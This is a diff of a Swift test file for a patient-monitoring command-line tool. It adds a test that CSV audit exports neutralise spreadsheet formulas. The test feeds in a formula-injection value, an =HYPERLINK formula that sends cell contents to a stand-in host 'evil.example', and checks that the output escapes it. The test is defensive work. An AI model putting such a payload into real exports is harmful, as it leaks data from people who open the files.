@@ -20,6 +20,18 @@ struct CommandLineTests {
                 (try? String(contentsOfFile: log + ".out", encoding: .utf8)) ?? "")
     }
 
+    @Test("CSV exports neutralise formulas: an actor =HYPERLINK(...) is text in audit list --format csv")
+    func csvInjection() async throws {
+        let env = try TestEnvironment()
+        let actor = #"=HYPERLINK("http://evil.example/?"&A1,"open")"#
+        #expect(try await run(env, ["patient", "add", "--id", "csv1", "--timezone", "UTC", "--program", "diabetes", "--by", actor]).code == 0)
+        let audit = try await run(env, ["audit", "list", "--format", "csv"])
+        #expect(audit.code == 0)
+        // Quoted (it holds commas and quotes), with the leading ' that makes it text.
+        #expect(audit.stdout.contains(#","'=HYPERLINK(""http://evil.example/?""&A1,""open"")","#), "\(audit.stdout)")
+        #expect(!audit.stdout.contains(#","=HYPERLINK"#))
+    }
+
     @Test("config check prints a threshold whose unit is ambiguous as a warning, and passes")
     func configWarning() async throws {
         let env = try TestEnvironment(extraYAML: "thresholds:\n  defaults:\n    body_weight: {critical_high: 250}\n")
